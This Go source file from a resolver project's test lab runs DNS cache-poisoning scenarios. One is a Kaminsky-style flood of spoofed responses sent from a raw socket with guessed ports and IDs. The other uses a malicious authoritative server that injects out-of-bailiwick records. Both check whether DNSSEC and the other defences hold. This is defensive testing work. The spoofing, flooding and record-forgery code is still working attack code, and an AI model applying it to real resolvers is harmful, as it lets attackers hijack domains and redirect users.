package scenario

import (
	"context"
	crand "crypto/rand"
	"encoding/binary"
	"errors"
	"fmt"
	"math/rand/v2"
	"net"
	"net/netip"
	"os"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"github.com/gopacket/gopacket/layers"
	"github.com/miekg/dns"
	"golang.org/x/sys/unix"

	"github.com/rampart-fw/rampart/lab"
)

// The lab-only weakenings of the resolver: WeakenFlag gives it a fixed
// upstream source port and no 0x20 (for the Kaminsky attack),
// WeakenBailiwickFlag turns its bailiwick check off (for the bailiwick
// attack). The resolver refuses either flag unless the environment carries
// the variable, which only the lab sets, so a production configuration
// cannot switch them on by accident.
const (
	WeakenFlag          = "--lab-weaken"
	WeakenBailiwickFlag = "--lab-weaken-bailiwick"
	WeakenEnv           = "RAMPART_LAB_WEAKEN"
	WeakenEnvValue      = "yes-i-want-a-poisonable-resolver"
	// WeakPort is the fixed source port of a weakened resolver: knowing it
	// is the whole point of the weakness.
	WeakPort = 33333
)

// ErrWeakenUnavailable is returned when the resolver does not know the
// weakening flag a run needs, so there is no weakened target to attack.
var ErrWeakenUnavailable = errors.New("the resolver has no lab weakening option (unknown flag): no weakened target")

// PoisonZone is the victim zone, NSName its server's name, and PoisonAddr
// the address the attacks try to plant: the attacker host.
const (
	PoisonZone = "example.lab."
	NSName     = "ns1.example.lab."
	WWWName    = "www.example.lab."
	EvilZone   = "evil.lab."
)

// KaminskyOptions bound a Kaminsky run. Zero values take the defaults.
type KaminskyOptions struct {
	// Weak attacks a resolver started with WeakenFlag: the attacker knows
	// its source port and guesses only the ID.
	Weak bool
	// Validate keeps DNSSEC validation on for a weak run: the forged
	// answers still win races, but fail validation (example.lab. is
	// signed), so the client gets SERVFAIL with an Extended DNS Error
	// instead of the attacker's address. The default target always
	// validates.
	Validate bool
	// Duration is the wall-clock bound of the flood; 0 means 60 s.
	Duration time.Duration
	// MaxPackets is the spoofed-packet budget; 0 means 100 million.
	MaxPackets uint64
	// MaxRounds bounds the trigger queries; 0 means one million.
	MaxRounds int
	// Logf, when set, gets a progress line every ProgressEvery while the
	// flood runs: what has been sent so far. Kaminsky sets it to the
	// environment's Logf.
	Logf func(format string, args ...any)
}

// ProgressEvery is how often a running attack says what it has sent.
const ProgressEvery = 3 * time.Second

func (o *KaminskyOptions) defaults() {
	if o.Duration <= 0 {
		o.Duration = 60 * time.Second
	}
	if o.MaxPackets == 0 {
		o.MaxPackets = 100_000_000
	}
	if o.MaxRounds <= 0 {
		o.MaxRounds = 1_000_000
	}
}

// KaminskyResult is what a Kaminsky run tried and what came of it.
type KaminskyResult struct {
	Weak     bool
	Validate bool
	// Rejected counts trigger answers that were SERVFAIL with an Extended
	// DNS Error: forgeries that won the race and failed DNSSEC validation.
	Rejected int
	EDE      uint16        // the last Extended DNS Error code seen
	Rounds   int           // trigger queries sent
	Timeouts int           // trigger queries that got no answer
	Packets  uint64        // spoofed responses sent
	Lost     uint64        // spoofed responses the kernel refused (queue full)
	Elapsed  time.Duration // of the flood
	// RaceWon says a spoofed answer beat the real one: the trigger query
	// for WonName came back with the attacker's address, in round WonRound
	// after WonAfter.
	RaceWon  bool
	WonName  string
	WonRound int
	WonAfter time.Duration
	// Poisoned says that, asked afterwards from client2, the resolver
	// answered some name with the attacker's address: the won name (its
	// forged answer is in the cache) or a name below.
	Poisoned bool
	// Hijacked says www.example.lab or ns1.example.lab answered with the
	// attacker's address: the forged delegation or glue replaced the real
	// one, so the whole zone is the attacker's.
	Hijacked bool
	// After is what the resolver answered afterwards, one line per name.
	After []string
	// Failed lists the legitimate names (www and ns1.example.lab) that
	// got no address afterwards, as "name → answer": collateral damage,
	// even when nothing was poisoned.
	Failed []string
	// CheckErr says the check afterwards got no answer at all (the
	// resolver is gone, the query timed out): unless it found poison
	// first, the run cannot tell whether the resolver held.
	CheckErr error
	Err      error
}

// Rate is the spoofed packets per second.
func (r KaminskyResult) Rate() float64 {
	if r.Elapsed <= 0 {
		return 0
	}
	return float64(r.Packets) / r.Elapsed.Seconds()
}

// Kaminsky starts the DNS hierarchy (the resolver weakened when opts.Weak),
// then runs the attack: client1, the attacker's foothold inside, asks the
// resolver for random names under example.lab. while the attacker host
// floods the resolver with responses forged from the zone's server
// (203.0.113.30:53) at guessed ports and IDs, each claiming that
// ns1.example.lab. is the attacker. The attacker does not see the
// resolver's queries. A malicious server for example.lab. runs on the
// attacker, so that a stolen delegation shows in www.example.lab's answer.
// It stops at the first won race, or at the bounds of opts, and asks the
// resolver from client2 what it now believes.
func Kaminsky(ctx context.Context, l *lab.Lab, env *lab.Env, opts KaminskyOptions) KaminskyResult {
	weaken := ""
	if opts.Weak {
		weaken = WeakenFlag
	}
	d, err := startPoisonDNS(ctx, l, env, "kaminsky", weaken, opts.Validate)
	if err != nil {
		return KaminskyResult{Weak: opts.Weak, Validate: opts.Validate, Err: err}
	}
	defer d.Stop()
	if opts.Logf == nil && env != nil {
		opts.Logf = env.Logf
	}
	r := KaminskyAgainst(ctx, l, d.Resolver4, opts)
	r.Validate = opts.Validate
	return r
}

// KaminskyAgainst runs the Kaminsky attack against a resolver already
// listening at resolver (an inside address) whose upstream queries leave
// from the same address. The DNS hierarchy must be running.
func KaminskyAgainst(ctx context.Context, l *lab.Lab, resolver netip.AddrPort, opts KaminskyOptions) KaminskyResult {
	opts.defaults()
	res := KaminskyResult{Weak: opts.Weak}
	attacker := l.Addr("attacker", 4)
	stopEvil, err := startEvilServer(l.Host("attacker"), netip.AddrPortFrom(attacker, 53), attacker)
	if err != nil {
		res.Err = fmt.Errorf("malicious server on the attacker: %w", err)
		return res
	}
	defer stopEvil()
	fl, err := newFlooder(l.Host("attacker"), l.Addr("auth", 4), resolver.Addr(), attacker, opts.Weak)
	if err != nil {
		res.Err = err
		return res
	}
	defer fl.close()

	fctx, cancel := context.WithTimeout(ctx, opts.Duration)
	defer cancel()
	// The first template goes in before the flood starts, so the sender
	// never has to wait for one.
	name, err := randomName(PoisonZone)
	if err != nil {
		res.Err = err
		return res
	}
	if err := fl.setName(name); err != nil {
		res.Err = err
		return res
	}
	var wg sync.WaitGroup
	wg.Add(1)
	start := time.Now()
	go func() {
		defer wg.Done()
		fl.run(fctx, opts.MaxPackets)
		cancel()
	}()
	// rounds and timeouts mirror res for the progress lines.
	var rounds, timeouts atomic.Int64
	if opts.Logf != nil {
		opts.Logf("flooding for at most %s: client1 asks for random %s names, the attacker forges answers",
			opts.Duration, PoisonZone)
		wg.Add(1)
		go func() {
			defer wg.Done()
			tick := time.NewTicker(ProgressEvery)
			defer tick.Stop()
			for {
				select {
				case <-fctx.Done():
					return
				case <-tick.C:
					el := time.Since(start)
					sent := fl.sent.Load()
					opts.Logf("%4.0fs: %d trigger queries (%d unanswered), %d spoofed replies sent (%.0f/s)",
						el.Seconds(), rounds.Load(), timeouts.Load(), sent, float64(sent)/el.Seconds())
				}
			}
		}()
	}
	client := l.Host("client1")
	for res.Rounds < opts.MaxRounds && fctx.Err() == nil {
		if res.Rounds > 0 {
			if name, err = randomName(PoisonZone); err != nil {
				res.Err = err
				break
			}
			if err := fl.setName(name); err != nil {
				res.Err = err
				break
			}
		}
		res.Rounds++
		rounds.Store(int64(res.Rounds))
		q := new(dns.Msg)
		q.SetQuestion(name, dns.TypeA)
		q.SetEdns0(1232, false)
		r, _, err := Query(client, resolver, q, false, 2*time.Second)
		if err != nil {
			res.Timeouts++
			timeouts.Store(int64(res.Timeouts))
			continue
		}
		if answersWith(r, attacker) {
			res.RaceWon, res.WonName, res.WonRound, res.WonAfter = true, name, res.Rounds, time.Since(start)
			break
		}
		if r.Rcode == dns.RcodeServerFailure {
			if opt := r.IsEdns0(); opt != nil {
				for _, o := range opt.Option {
					if ede, ok := o.(*dns.EDNS0_EDE); ok {
						res.Rejected++
						res.EDE = ede.InfoCode
					}
				}
			}
		}
	}
	cancel()
	wg.Wait()
	res.Elapsed = fl.elapsed()
	res.Packets = fl.sent.Load()
	res.Lost = fl.lost
	if ferr := fl.error(); ferr != nil && res.Err == nil {
		res.Err = ferr
	}
	// Spoofed packets still queued must not count as the answer to the
	// check below.
	time.Sleep(100 * time.Millisecond)
	legit := askAfter(l.Host("client2"), resolver, attacker, []string{WWWName, NSName})
	res.After, res.Hijacked, res.Failed, res.CheckErr = legit.lines, legit.poisoned, legit.failed, legit.err
	res.Poisoned = res.Hijacked
	if res.RaceWon {
		// The won name is the attacker's own: its failing is no damage.
		won := askAfter(l.Host("client2"), resolver, attacker, []string{res.WonName})
		res.After = append(res.After, won.lines...)
		res.Poisoned = res.Poisoned || won.poisoned
		if res.CheckErr == nil {
			res.CheckErr = won.err
		}
	}
	return res
}

// BailiwickOptions choose the target of a bailiwick run.
type BailiwickOptions struct {
	// Weak attacks a resolver started with WeakenBailiwickFlag, which
	// caches whatever a server puts in its response, as resolvers did
	// before 1997. Without Validate its DNSSEC validation is off too:
	// example.lab. is signed, and validation alone would stop the
	// injection.
	Weak bool
	// Validate keeps DNSSEC validation on for a weak run: the injected
	// records are cached but fail validation, so the client gets SERVFAIL
	// with an Extended DNS Error, or the real address, never the
	// attacker's. The default target always validates.
	Validate bool
}

// BailiwickResult is what a bailiwick run tried and what came of it.
type BailiwickResult struct {
	Weak     bool
	Validate bool
	// Trigger is what the resolver answered for www.evil.lab.
	Trigger string
	// EvilQueries counts the queries the malicious server answered: zero
	// means the resolver never reached it and the run proves nothing.
	EvilQueries int64
	Poisoned    bool
	After       []string
	// Failed and CheckErr are as in KaminskyResult: legitimate names
	// that no longer resolve, and a check afterwards that got no answer.
	Failed   []string
	CheckErr error
	Err      error
}

// Bailiwick starts the DNS hierarchy and a malicious authoritative server
// for evil.lab. on the attacker host (lab.zone delegates evil.lab. to it),
// whose every answer carries records for example.lab.: an NS in the
// authority section, addresses for www and ns1 in the additional section
// and an answer-section record for www.example.lab. client1 asks the
// resolver (weakened as opts say) for www.evil.lab; client2 then asks for
// www.example.lab and ns1.example.lab, which the default and the validating
// resolver must still answer with their real addresses (or SERVFAIL), and
// the weakened resolver without DNSSEC with the attacker's.
func Bailiwick(ctx context.Context, l *lab.Lab, env *lab.Env, opts BailiwickOptions) BailiwickResult {
	res := BailiwickResult{Weak: opts.Weak, Validate: opts.Weak && opts.Validate}
	weaken := ""
	if opts.Weak {
		weaken = WeakenBailiwickFlag
	}
	d, err := startPoisonDNS(ctx, l, env, "bailiwick", weaken, res.Validate)
	if err != nil {
		res.Err = err
		return res
	}
	defer d.Stop()
	attacker := l.Addr("attacker", 4)
	ev := &evilServer{attacker: attacker}
	stop, err := ev.start(l.Host("attacker"), netip.AddrPortFrom(attacker, 53))
	if err != nil {
		res.Err = fmt.Errorf("malicious server on the attacker: %w", err)
		return res
	}
	defer stop()
	r, _, err := Ask(l.Host("client1"), d.Resolver4, "www."+EvilZone, dns.TypeA, false)
	if err != nil {
		res.Err = fmt.Errorf("trigger www.%s: %w", EvilZone, err)
		return res
	}
	res.Trigger = summary(r)
	res.EvilQueries = ev.queries.Load()
	after := askAfter(l.Host("client2"), d.Resolver4, attacker, []string{WWWName, NSName})
	res.After, res.Poisoned, res.Failed, res.CheckErr = after.lines, after.poisoned, after.failed, after.err
	return res
}

// PoisonKaminsky is the demo's Kaminsky scenario: a 10-second flood at
// full rate against the default resolver, which must not be poisoned.
func PoisonKaminsky() lab.Scenario {
	return lab.Scenario{Name: "kaminsky", Run: func(ctx context.Context, l *lab.Lab, env *lab.Env) []lab.Result {
		env.Logf("against the %s:", KaminskyTarget(false, false))
		r := Kaminsky(ctx, l, env, KaminskyOptions{Duration: 10 * time.Second})
		return []lab.Result{logged(env, r.LabResult("kaminsky"))}
	}}
}

// PoisonKaminskyWeak is the demo's proof that the attack works: the same
// flood against the weakened resolver without DNSSEC, which it must poison
// within its bound, then against the weakened resolver that validates,
// whose forged answers must fail validation.
func PoisonKaminskyWeak() lab.Scenario {
	return lab.Scenario{Name: "kaminsky-weak", Run: func(ctx context.Context, l *lab.Lab, env *lab.Env) []lab.Result {
		env.Logf("against the %s, which the attack must poison:", KaminskyTarget(true, false))
		weak := logged(env, Kaminsky(ctx, l, env, KaminskyOptions{Weak: true, Duration: 30 * time.Second}).LabResult("kaminsky-weak"))
		env.Logf("against the %s:", KaminskyTarget(true, true))
		signed := logged(env, Kaminsky(ctx, l, env, KaminskyOptions{Weak: true, Validate: true, Duration: 15 * time.Second}).LabResult("kaminsky-weak"))
		return []lab.Result{weak, signed}
	}}
}

// PoisonBailiwick is the demo's bailiwick scenario: the attack against the
// default resolver, which must hold; against the resolver without a
// bailiwick check and without DNSSEC, which it must poison (the proof that
// the attack works); and against the resolver without a bailiwick check
// that validates, which DNSSEC must save.
func PoisonBailiwick() lab.Scenario {
	return lab.Scenario{Name: "bailiwick", Run: func(ctx context.Context, l *lab.Lab, env *lab.Env) []lab.Result {
		var results []lab.Result
		for _, o := range []BailiwickOptions{{}, {Weak: true}, {Weak: true, Validate: true}} {
			env.Logf("against the %s:", BailiwickTarget(o.Weak, o.Weak && o.Validate))
			results = append(results, logged(env, Bailiwick(ctx, l, env, o).LabResult("bailiwick")))
		}
		return results
	}}
}

// LabResult is the result as a line of the demo report. A weak run is OK
// when it poisoned the target (the attack works); a default run when it
// did not. A run that could not tell (it failed, or the check afterwards
// got no answer) is inconclusive, never "not poisoned".
func (r KaminskyResult) LabResult(scenario string) lab.Result {
	defence := "random source port, random ID, 0x20, near-miss → TCP, DNSSEC"
	wantPoisoned := false
	switch {
	case r.Weak && r.Validate:
		defence = "DNSSEC only (example.lab. is signed)"
	case r.Weak:
		defence = "ID only (16 bits)"
		wantPoisoned = true
	}
	res := lab.Result{Scenario: scenario, Kind: kindOf(wantPoisoned), Defence: defence, Details: r.After,
		Tried: fmt.Sprintf("off-path Kaminsky flood against the %s: %d rounds, %d spoofed responses in %s (%.0f/s)",
			KaminskyTarget(r.Weak, r.Validate), r.Rounds, r.Packets, r.Elapsed.Round(time.Millisecond), r.Rate())}
	won := fmt.Sprintf("race won in round %d after %s", r.WonRound, r.WonAfter.Round(time.Millisecond))
	switch {
	case r.Err != nil:
		inconclusive(&res, r.Err.Error())
	case r.Hijacked:
		res.Outcome = "POISONED, zone hijacked (" + won + ")"
		res.OK = wantPoisoned
	case r.Poisoned:
		res.Outcome = fmt.Sprintf("POISONED: %s cached with the attacker's address (%s); the delegation held", r.WonName, won)
		res.OK = wantPoisoned
	case r.CheckErr != nil:
		inconclusive(&res, "the check after the attack got no answer: "+r.CheckErr.Error())
	case r.RaceWon:
		res.Outcome = "a forged answer won the " + strings.TrimPrefix(won, "race ") + " but was not cached"
	default:
		held := "not poisoned"
		if r.Rejected > 0 {
			held = fmt.Sprintf("not poisoned: %d forged %s won the race and failed validation (SERVFAIL, EDE %d)",
				r.Rejected, plural(int64(r.Rejected), "answer", "answers"), r.EDE)
		}
		notPoisoned(&res, held, r.Failed)
		res.OK = !wantPoisoned
	}
	return res
}

// LabResult is the result as a line of the demo report. A weak run without
// DNSSEC is OK when it poisoned the target (the attack works); the others
// when they did not. A run that could not tell is inconclusive.
func (r BailiwickResult) LabResult(scenario string) lab.Result {
	defence := "bailiwick: only records inside the zone asked are accepted; DNSSEC"
	wantPoisoned := false
	switch {
	case r.Weak && r.Validate:
		defence = "DNSSEC only (example.lab. is signed)"
	case r.Weak:
		defence = "none (the pre-1997 resolver)"
		wantPoisoned = true
	}
	res := lab.Result{Scenario: scenario, Kind: kindOf(wantPoisoned), Defence: defence, Details: r.After,
		Tried: fmt.Sprintf("malicious server for %s sends out-of-bailiwick records for %s to the %s (%d %s answered)",
			EvilZone, PoisonZone, BailiwickTarget(r.Weak, r.Validate), r.EvilQueries, plural(r.EvilQueries, "query", "queries"))}
	switch {
	case r.Err != nil:
		inconclusive(&res, r.Err.Error())
	case r.EvilQueries == 0:
		inconclusive(&res, "the resolver never asked the malicious server")
	case r.Poisoned:
		res.Outcome = "POISONED: " + PoisonZone + " answers with the attacker's address"
		res.OK = wantPoisoned
	case r.CheckErr != nil:
		inconclusive(&res, "the check after the attack got no answer: "+r.CheckErr.Error())
	default:
		notPoisoned(&res, "not poisoned (www.evil.lab → "+r.Trigger+")", r.Failed)
		res.OK = !wantPoisoned
		if len(r.Failed) > 0 && r.Validate {
			res.Details = append(res.Details, "why: without the bailiwick check the resolver took the attacker's "+
				PoisonZone+" NS record; it now asks the attacker's server for the zone, whose answers fail "+
				"validation, so DNSSEC keeps the forged addresses out but the zone no longer resolves: "+
				"a denial of service for as long as the forged NS record stays cached")
		}
	}
	return res
}

// KaminskyTarget names the resolver a Kaminsky run attacks.
func KaminskyTarget(weak, validate bool) string {
	switch {
	case weak && validate:
		return "weakened resolver (fixed port " + fmt.Sprint(WeakPort) + ", no 0x20) that validates DNSSEC"
	case weak:
		return "weakened resolver (fixed port " + fmt.Sprint(WeakPort) + ", no 0x20, no DNSSEC)"
	}
	return "default resolver"
}

func plural(n int64, one, many string) string {
	if n == 1 {
		return one
	}
	return many
}

// BailiwickTarget names the resolver a bailiwick run attacks.
func BailiwickTarget(weak, validate bool) string {
	switch {
	case weak && validate:
		return "weakened resolver (" + WeakenBailiwickFlag + ": no bailiwick check) that validates DNSSEC"
	case weak:
		return "weakened resolver (" + WeakenBailiwickFlag + ": no bailiwick check, no DNSSEC)"
	}
	return "default resolver"
}

// kindOf is a Proof for the runs against a target weakened so that the
// attack works, a Defence for the others.
func kindOf(wantPoisoned bool) lab.Kind {
	if wantPoisoned {
		return lab.Proof
	}
	return lab.Defence
}

func inconclusive(r *lab.Result, why string) {
	r.Inconclusive, r.OK = true, false
	r.Outcome = "inconclusive: " + why
}

// notPoisoned words a run that planted nothing, and never hides the
// legitimate names that stopped resolving on the way.
func notPoisoned(r *lab.Result, outcome string, failed []string) {
	r.Outcome = outcome
	if len(failed) > 0 {
		r.Collateral = "legitimate names stopped resolving: " + strings.Join(failed, "; ")
		r.Outcome += "; but " + r.Collateral
	}
}

// logged prints a run's outcome as a progress line and returns it.
func logged(env *lab.Env, r lab.Result) lab.Result {
	env.Logf("→ %s", r.Outcome)
	return r
}

// startPoisonDNS starts the hierarchy in a folder of its own, the resolver
// weakened by the flag weaken unless it is empty; a weakened resolver
// validates DNSSEC only when validate.
func startPoisonDNS(ctx context.Context, l *lab.Lab, env *lab.Env, name, weaken string, validate bool) (*DNSHierarchy, error) {
	dir, err := os.MkdirTemp(env.Dir, name+"-")
	if err != nil {
		return nil, err
	}
	if weaken == "" {
		return StartDNS(ctx, l, env.Rampart, dir)
	}
	flags := []string{weaken}
	if !validate {
		flags = append(flags, "--dnssec", "off")
	}
	// Node.Start passes this process's environment on; the variable is set
	// only while the servers start.
	old, had := os.LookupEnv(WeakenEnv)
	os.Setenv(WeakenEnv, WeakenEnvValue)
	d, err := StartDNS(ctx, l, env.Rampart, dir, flags...)
	if had {
		os.Setenv(WeakenEnv, old)
	} else {
		os.Unsetenv(WeakenEnv)
	}
	if err != nil && strings.Contains(err.Error(), "unknown flag") {
		return nil, fmt.Errorf("%w: %v", ErrWeakenUnavailable, err)
	}
	return d, err
}

// aftermath is what the resolver answers after an attack, asked from a
// client that took no part in it.
type aftermath struct {
	lines    []string // one per name
	poisoned bool     // a name answered with the attacker's address
	failed   []string // names that got no address, as "name → answer"
	err      error    // the first query that got no answer at all
}

// askAfter asks the resolver for each name's A record from h.
func askAfter(h *lab.Node, resolver netip.AddrPort, attacker netip.Addr, names []string) aftermath {
	var a aftermath
	for _, n := range names {
		r, _, err := Ask(h, resolver, n, dns.TypeA, false)
		if err != nil {
			a.lines = append(a.lines, fmt.Sprintf("%s A: %v", n, err))
			if a.err == nil {
				a.err = fmt.Errorf("%s A: %w", n, err)
			}
			continue
		}
		switch {
		case answersWith(r, attacker):
			a.poisoned = true
		case r.Rcode != dns.RcodeSuccess || !hasA(r):
			a.failed = append(a.failed, n+" → "+summary(r))
		}
		a.lines = append(a.lines, fmt.Sprintf("%s A → %s", n, summary(r)))
	}
	return a
}

func hasA(r *dns.Msg) bool {
	for _, rr := range r.Answer {
		if _, ok := rr.(*dns.A); ok {
			return true
		}
	}
	return false
}

func answersWith(r *dns.Msg, a netip.Addr) bool {
	for _, rr := range r.Answer {
		if ar, ok := rr.(*dns.A); ok {
			if got, ok := netip.AddrFromSlice(ar.A); ok && got.Unmap() == a {
				return true
			}
		}
	}
	return false
}

func summary(r *dns.Msg) string {
	if r.Rcode != dns.RcodeSuccess {
		s := dns.RcodeToString[r.Rcode]
		if opt := r.IsEdns0(); opt != nil {
			for _, o := range opt.Option {
				if ede, ok := o.(*dns.EDNS0_EDE); ok {
					s += fmt.Sprintf(" (EDE %d %s)", ede.InfoCode, dns.ExtendedErrorCodeToString[ede.InfoCode])
				}
			}
		}
		return s
	}
	var s []string
	for _, rr := range r.Answer {
		s = append(s, strings.TrimPrefix(rr.Header().Name+" "+rdata(rr), " "))
	}
	if len(s) == 0 {
		return "no records"
	}
	return strings.Join(s, ", ")
}

const nameAlphabet = "abcdefghijklmnopqrstuvwxyz0123456789"

// randomName returns a fresh six-character label under zone: never cached,
// so every trigger query makes the resolver ask the zone's server.
func randomName(zone string) (string, error) {
	var b [6]byte
	if _, err := crand.Read(b[:]); err != nil {
		return "", err
	}
	for i := range b {
		b[i] = nameAlphabet[int(b[i])%len(nameAlphabet)]
	}
	return string(b[:]) + "." + zone, nil
}

// Offsets into a spoofed IPv4/UDP packet without IP options.
const (
	offDstPort  = 20 + 2
	offUDPCheck = 20 + 6
	offDNSID    = 20 + 8
)

// spoofResponse builds the forged answer for name, from server:53 to
// resolver port 0 with ID 0; patch sets those per packet. The UDP checksum
// is zero (legal over IPv4), so patching needs no checksum arithmetic.
func spoofResponse(name string, server, resolver, attacker netip.Addr) ([]byte, error) {
	m := new(dns.Msg)
	m.SetQuestion(name, dns.TypeA)
	m.Response, m.Authoritative, m.RecursionDesired = true, true, false
	const long = 7 * 24 * 3600
	a := net.IP(attacker.AsSlice())
	m.Answer = []dns.RR{&dns.A{Hdr: dns.RR_Header{Name: name, Rrtype: dns.TypeA, Class: dns.ClassINET, Ttl: long}, A: a}}
	m.Ns = []dns.RR{&dns.NS{Hdr: dns.RR_Header{Name: PoisonZone, Rrtype: dns.TypeNS, Class: dns.ClassINET, Ttl: long}, Ns: NSName}}
	m.Extra = []dns.RR{&dns.A{Hdr: dns.RR_Header{Name: NSName, Rrtype: dns.TypeA, Class: dns.ClassINET, Ttl: long}, A: a}}
	m.Compress = true
	payload, err := m.Pack()
	if err != nil {
		return nil, err
	}
	pkt, err := lab.Spec{Src: server, Dst: resolver, Proto: layers.IPProtocolUDP, SrcPort: 53, DstPort: 1, Payload: payload}.Build()
	if err != nil {
		return nil, err
	}
	if len(pkt) < offDNSID+2 || pkt[0] != 0x45 {
		return nil, fmt.Errorf("spoofed packet: unexpected IPv4 header %#x", pkt[0])
	}
	pkt[offUDPCheck], pkt[offUDPCheck+1] = 0, 0
	return pkt, nil
}

// patch sets the guessed destination port and DNS ID of a spoofed packet.
func patch(pkt []byte, port, id uint16) {
	binary.BigEndian.PutUint16(pkt[offDstPort:], port)
	binary.BigEndian.PutUint16(pkt[offDNSID:], id)
}

// guesser draws the attacker's guesses. Against the weakened target the
// port is known and the IDs are walked from a random start, so no ID is
// tried twice in one window; otherwise port and ID are both random.
type guesser struct {
	weak bool
	rng  *rand.ChaCha8
	id   uint16
}

func newGuesser(weak bool) (*guesser, error) {
	var seed [32]byte
	if _, err := crand.Read(seed[:]); err != nil {
		return nil, err
	}
	g := &guesser{weak: weak, rng: rand.NewChaCha8(seed)}
	g.id = uint16(g.rng.Uint64())
	return g, nil
}

// next returns the next (port, ID) guess. The port is from 1024–65535,
// the range the resolver draws from.
func (g *guesser) next() (uint16, uint16) {
	if g.weak {
		g.id++
		return WeakPort, g.id
	}
	v := g.rng.Uint64()
	return uint16(1024 + (v>>16)%(65536-1024)), uint16(v)
}

// flooder sends spoofed responses from the attacker host through one raw
// socket as fast as it accepts them. The trigger swaps the template (one
// per random name) while the sender runs.
type flooder struct {
	fd               int
	server, resolver netip.Addr
	attacker         netip.Addr
	g                *guesser
	tmpl             atomic.Pointer[[]byte]
	sent             atomic.Uint64
	// lost counts packets the kernel refused (queue full); read it only
	// after run returned.
	lost       uint64
	start, end time.Time
	mu         sync.Mutex
	err        error
}

func newFlooder(h *lab.Node, server, resolver, attacker netip.Addr, weak bool) (*flooder, error) {
	g, err := newGuesser(weak)
	if err != nil {
		return nil, err
	}
	f := &flooder{fd: -1, server: server, resolver: resolver, attacker: attacker, g: g}
	f.fd, err = rawSocket4(h)
	return f, err
}

func (f *flooder) setName(name string) error {
	p, err := spoofResponse(name, f.server, f.resolver, f.attacker)
	if err != nil {
		return err
	}
	f.tmpl.Store(&p)
	return nil
}

// batch is how many packets go out between checks of the bounds and of a
// new template: small enough that a new name takes effect at once.
const batch = 32

// run floods until ctx ends or budget packets are sent. It allocates
// nothing per packet.
func (f *flooder) run(ctx context.Context, budget uint64) {
	f.start = time.Now()
	defer func() { f.end = time.Now() }()
	var sa unix.SockaddrInet4
	sa.Addr = f.resolver.As4()
	var sent uint64
	for ctx.Err() == nil && sent < budget {
		pkt := *f.tmpl.Load()
		n := min(uint64(batch), budget-sent)
		for range n {
			port, id := f.g.next()
			patch(pkt, port, id)
			if err := unix.Sendto(f.fd, pkt, 0, &sa); err != nil {
				if errors.Is(err, unix.ENOBUFS) || errors.Is(err, unix.EAGAIN) {
					// The queue is full: the packet is lost, as on a
					// real link at full rate.
					f.lost++
					continue
				}
				f.mu.Lock()
				f.err = fmt.Errorf("send spoofed response: %w", err)
				f.mu.Unlock()
				return
			}
			sent++
		}
		f.sent.Store(sent)
	}
}

func (f *flooder) error() error {
	f.mu.Lock()
	defer f.mu.Unlock()
	return f.err
}

func (f *flooder) elapsed() time.Duration {
	if f.start.IsZero() || f.end.IsZero() {
		return 0
	}
	return f.end.Sub(f.start)
}

func (f *flooder) close() {
	if f.fd >= 0 {
		unix.Close(f.fd)
		f.fd = -1
	}
}

// evilServer is the attacker's authoritative server. It answers every
// query and stuffs every answer with records for example.lab. it has no
// authority over.
type evilServer struct {
	attacker netip.Addr
	queries  atomic.Int64
}

func startEvilServer(h *lab.Node, addr netip.AddrPort, attacker netip.Addr) (func(), error) {
	ev := &evilServer{attacker: attacker}
	return ev.start(h, addr)
}

// start serves on addr (UDP and TCP) inside h and returns the function
// that stops it.
func (ev *evilServer) start(h *lab.Node, addr netip.AddrPort) (func(), error) {
	var pc net.PacketConn
	var ln net.Listener
	err := h.Do(func() error {
		var err error
		if pc, err = net.ListenPacket("udp", addr.String()); err != nil {
			return err
		}
		if ln, err = net.Listen("tcp", addr.String()); err != nil {
			pc.Close()
			return err
		}
		return nil
	})
	if err != nil {
		return nil, err
	}
	udp := &dns.Server{PacketConn: pc, Handler: ev}
	tcp := &dns.Server{Listener: ln, Handler: ev}
	var wg sync.WaitGroup
	for _, s := range []*dns.Server{udp, tcp} {
		wg.Add(1)
		go func() {
			defer wg.Done()
			_ = s.ActivateAndServe()
		}()
	}
	return func() {
		_ = udp.Shutdown()
		_ = tcp.Shutdown()
		wg.Wait()
	}, nil
}

// ServeDNS answers with the attacker's address for the name asked (when
// it asks for A) and adds the out-of-bailiwick records: an answer-section
// A for www.example.lab, example.lab. NS ns.evil.lab. in the authority
// section, and A records for www and ns1.example.lab in the additional
// section.
func (ev *evilServer) ServeDNS(w dns.ResponseWriter, q *dns.Msg) {
	ev.queries.Add(1)
	if len(q.Question) != 1 {
		m := new(dns.Msg)
		m.SetRcode(q, dns.RcodeFormatError)
		_ = w.WriteMsg(m)
		return
	}
	m := new(dns.Msg)
	m.SetReply(q)
	m.Authoritative = true
	const long = 7 * 24 * 3600
	a := net.IP(ev.attacker.AsSlice())
	hdr := func(name string, t uint16) dns.RR_Header {
		return dns.RR_Header{Name: name, Rrtype: t, Class: dns.ClassINET, Ttl: long}
	}
	qn := q.Question[0].Name
	if q.Question[0].Qtype == dns.TypeA || q.Question[0].Qtype == dns.TypeANY {
		m.Answer = append(m.Answer, &dns.A{Hdr: hdr(qn, dns.TypeA), A: a})
	}
	if !strings.EqualFold(qn, WWWName) {
		m.Answer = append(m.Answer, &dns.A{Hdr: hdr(WWWName, dns.TypeA), A: a})
	}
	m.Ns = []dns.RR{
		&dns.NS{Hdr: hdr(EvilZone, dns.TypeNS), Ns: "ns." + EvilZone},
		&dns.NS{Hdr: hdr(PoisonZone, dns.TypeNS), Ns: "ns." + EvilZone},
	}
	m.Extra = []dns.RR{
		&dns.A{Hdr: hdr("ns."+EvilZone, dns.TypeA), A: a},
		&dns.A{Hdr: hdr(WWWName, dns.TypeA), A: a},
		&dns.A{Hdr: hdr(NSName, dns.TypeA), A: a},
	}
	if opt := q.IsEdns0(); opt != nil {
		m.SetEdns0(opt.UDPSize(), false)
	}
	_ = w.WriteMsg(m)
}
